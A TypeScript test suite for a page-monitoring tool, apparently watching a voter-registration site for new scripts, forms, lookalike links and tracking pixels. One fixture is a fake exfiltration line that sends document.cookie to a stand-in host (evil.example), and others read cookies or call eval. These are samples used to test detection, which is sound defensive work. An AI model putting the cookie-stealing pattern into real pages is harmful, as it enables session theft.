import assert from 'node:assert/strict'
import { test } from 'node:test'
import { pageOf, type Parts, Site, told } from '../../../../test/support/watched-page.ts'

const LIBRARY =
  '<script src="https://code.jquery.com/jquery-3.7.1.min.js" integrity="sha384-AAAA" crossorigin></script>'
const MAP = '<p><a href="https://maps.google.com/?q=30.04440,31.23570">Map</a></p>'
const FIELDS =
  '<form action="/search"><input name="q"><input name="hp-Xe7TllTP 25880b74d620"></form>'
const page = (parts: Parts = {}) =>
  pageOf({ ...parts, head: LIBRARY + (parts.head ?? ''), end: MAP + FIELDS + (parts.end ?? '') })

let stored: Uint8Array | null = null
function judged(html: string, files: Readonly<Record<string, string>> = {}): string[] {
  stored ??= new Site(() => page()).learned().stored
  const site = new Site()
  site.stored = stored
  site.atMs += 3 * 86_400_000
  return told(site.look(html, 0, { files: new Map(Object.entries(files)) }).items)
}

const withHead = (head: string) => judged(page({ head }))
const withEnd = (end: string) => judged(page({ end }))

test('M: a script of a firm that does one thing for a site; H where anybody may have it run anything', () => {
  for (const host of [
    'consent.cookiebot.com',
    'cdn.userway.org',
    'js.hcaptcha.com',
    'plausible.io',
  ])
    assert.deepEqual(withHead(`<script src="https://${host}/a.js"></script>`), [
      'M script known_service',
    ])
  for (const host of ['www.googletagmanager.com', 'static.hotjar.com', 'unpkg.com'])
    assert.deepEqual(withHead(`<script src="https://${host}/a.js"></script>`), [
      'H script new_host',
    ])
})

test('a chat that comes in office hours is learned with the page; its loader is a question later, and what takes data is none of it', () => {
  const loader = (more = '') =>
    `<script>(function(){var s=document.createElement('script');s.src='https://static.zdassets.com/ekr/snippet.js?key=1';${more}document.head.appendChild(s)})()</script>`
  assert.deepEqual(withEnd(loader()), ['M inline known_service'])
  assert.deepEqual(withEnd(loader('s.title=document.cookie;')), ['H inline new_script'])
  const isOpen = (n: number) => n > 40 && n < 55
  const site = new Site((n) => page({ end: isOpen(n) ? loader() : '' })).learned()
  assert.deepEqual(told(site.look(page({ end: loader() }), 3_600_000).items), [])
})

test('a library comes home under its name, and its digest goes with its version', () => {
  const swap = (tag: string, files = {}) => judged(page().replace(LIBRARY, tag), files)
  const own = '<script src="/vendor/jquery-3.7.1.min.js"></script>'
  const address = 'https://www.vote.example/vendor/jquery-3.7.1.min.js'
  assert.deepEqual(swap(own), ['M script new_script'])
  assert.deepEqual(swap(own, { [address]: 'var $=function(){return eval("1")}' }), [
    'M script new_script',
  ])
  assert.ok(
    swap(own, { [address]: 'fetch("https://evil.example/?"+document.cookie)' }).includes(
      'H script new_script',
    ),
  )
  assert.deepEqual(swap('<script src="/uploads/jquery-3.7.1.min.js"></script>'), [
    'H script new_script',
  ])
  assert.deepEqual(swap('<script src="/vendor/other.js"></script>'), ['H script new_script'])
  assert.deepEqual(swap(LIBRARY.replace('AAAA', 'BBBB')), ['H fact other_digest'])
  assert.deepEqual(swap(LIBRARY.replace('3.7.1', '3.7.2').replace('AAAA', 'CCCC')), [])
})

test('M: a new script of the site whose text reaches and does nothing new', () => {
  const own = page({ head: '<script src="/news.js"></script>' })
  const address = 'https://www.vote.example/news.js'
  assert.deepEqual(judged(own, { [address]: 'document.title="News"' }), ['M script new_script'])
  assert.deepEqual(judged(own, { [address]: 'eval(a)' }), ['H script new_script'])
  assert.deepEqual(judged(own), ['H script new_script'])
})

test('M: a new form that asks for no more than a mail address, a name or words', () => {
  assert.deepEqual(
    withEnd('<form action="/letters" method=post><input type=email name=letters></form>').filter(
      (one) => !one.startsWith('M'),
    ),
    [],
  )
  for (const field of [
    '<input name=birth>',
    '<input type=tel name=a>',
    '<input name=voter_id>',
    '',
  ])
    assert.ok(withEnd(`<form action="/letters">${field}</form>`).includes('H form new_form'), field)
  const instead = page().replace(
    'action="/search"><input name="q">',
    'action="/s"><input name="z">',
  )
  assert.ok(judged(instead).includes('H form new_form'))
})

test('a field whose name is drawn by chance as a known one is nothing to tell', () => {
  const named = (name: string) => judged(page().replace('hp-Xe7TllTP 25880b74d620', name))
  assert.deepEqual(named('hp-Qw7TzUiL 9938ab74d621'), [])
  assert.deepEqual(named('hp-XeTllTPenmpu 9938ab74d621'), [])
  assert.ok(named('hp-town 9938ab74d621').includes('M field new_field'))
})

test('the same place on the map of another firm is nothing to tell, another place is', () => {
  const swap = (to: string) => judged(page().replace('maps.google.com/?q=30.04440,31.23570', to))
  assert.deepEqual(swap('www.openstreetmap.org/?mlat=30.0444&amp;mlon=31.2357#map=17/30/31'), [])
  assert.deepEqual(swap('yandex.com/maps/?pt=31.2357,30.0444'), [])
  assert.deepEqual(swap('www.openstreetmap.org/?mlat=31.9&amp;mlon=31.2357'), ['H fact data_place'])
  assert.ok(swap('maps.evil.example/x').some((one) => one.startsWith('H link link_left')))
})

test('M: a link to a film, whatever its words; H: a link to a name around the own one', () => {
  const link = (host: string) => withEnd(`<a href="https://${host}/a">How to register</a>`)
  assert.ok(link('www.youtube.com').every((one) => one.startsWith('M')))
  assert.ok(link('my-vote-online.example').some((one) => one.startsWith('H')))
})

test('H: a foreign sheet, and a dot that tells who looks; M where the firm is known or people see it', () => {
  const sheet = (host: string) => withHead(`<link rel=stylesheet href="https://${host}/a.css">`)
  assert.deepEqual(sheet('fonts.gstatics.example'), ['H sheet new_style'])
  assert.deepEqual(sheet('fonts.googleapis.com'), ['M sheet new_style'])
  const dot = '<img src="https://px.example/o.gif?p=1"'
  assert.deepEqual(withEnd(`${dot} width=1 height=1 alt="">`), ['H image new_image_host'])
  assert.deepEqual(withEnd(`${dot} style="width:1px;height:1px">`), ['H image new_image_host'])
  assert.deepEqual(withEnd(`${dot} width=300 height=200>`), ['M image new_image_host'])
})
